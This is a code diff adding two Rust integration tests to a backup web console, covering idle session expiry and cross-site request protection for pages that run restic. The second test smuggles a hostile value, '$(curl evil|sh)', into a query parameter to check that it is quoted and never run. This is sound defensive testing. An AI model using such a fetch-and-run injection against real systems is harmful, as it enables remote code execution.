@@ -528,3 +528,84 @@ async fn a_job_stream_resumes_its_log_where_the_page_left_off() {
         "{text}"
     );
 }
+
+#[tokio::test]
+async fn a_page_refreshing_itself_does_not_keep_its_session_alive() {
+    let (clock, manual) = Clock::manual(NOON);
+    let server = TestServer::start_with_clock(clock, |c| {
+        c.session_idle_timeout = Duration::from_secs(3600);
+    })
+    .await;
+    let cookie = signed_in(&server, "ann", Role::Viewer).await;
+    let get = |background: bool| {
+        let mut request = server
+            .http()
+            .get(format!("{}/", server.url))
+            .header(COOKIE, &cookie)
+            .header("hx-request", "true");
+        if background {
+            request = request.header("x-cairn-background", "1");
+        }
+        request.send()
+    };
+    // The dashboard's own refreshes, as the operator is away.
+    for _ in 0..5 {
+        manual.advance(Duration::from_secs(11 * 60));
+        let refreshed = get(true).await.expect("refresh");
+        assert_eq!(
+            refreshed.status(),
+            StatusCode::OK,
+            "the session is still alive"
+        );
+    }
+    // An hour after the operator last did anything, the session is over.
+    manual.advance(Duration::from_secs(6 * 60));
+    let after = get(false).await.expect("request");
+    assert!(after.status().is_redirection(), "{}", after.status());
+    assert_eq!(after.headers()["location"], "/login");
+}
+
+#[tokio::test]
+async fn pages_that_run_restic_ask_first_when_another_site_sent_the_browser() {
+    let server = TestServer::start().await;
+    let (_host, repo) = host_with_repository(&server).await;
+    let cookie = signed_in(&server, "ann", Role::Operator).await;
+    let hostile = format!("/snapshots/diff?repo={repo}&a=%24%28curl%20evil%7Csh%29&b=x");
+    for path in [
+        hostile.as_str(),
+        "/snapshots/1/abcdef0123",
+        "/snapshots/1/abcdef0123/tree?path=/etc",
+    ] {
+        let response = server
+            .http()
+            .get(format!("{}{path}", server.url))
+            .header(COOKIE, &cookie)
+            .header("sec-fetch-site", "cross-site")
+            .send()
+            .await
+            .expect("request");
+        assert_eq!(response.status(), StatusCode::OK);
+        let page = response.text().await.expect("body");
+        assert!(page.contains("Open this page?"), "{page}");
+        assert!(
+            page.contains("href=\"/snapshots/"),
+            "a link to itself: {page}"
+        );
+    }
+    let jobs = server
+        .store()
+        .await
+        .list_jobs(Default::default(), cairn_store::Page::first(10))
+        .await
+        .expect("jobs");
+    assert!(jobs.items.is_empty(), "nothing ran on a host");
+
+    // Opened from the console itself, the line it shows is quoted: pasting
+    // it runs cairn ctl, nothing else.
+    let (_, page) = get_page(&server, &cookie, &hostile).await;
+    assert!(
+        page.contains("&#39;$(curl evil|sh)&#39;") || page.contains("'$(curl evil|sh)'"),
+        "{page}"
+    );
+    assert!(!page.contains(" $(curl evil|sh) "), "never bare");
+}
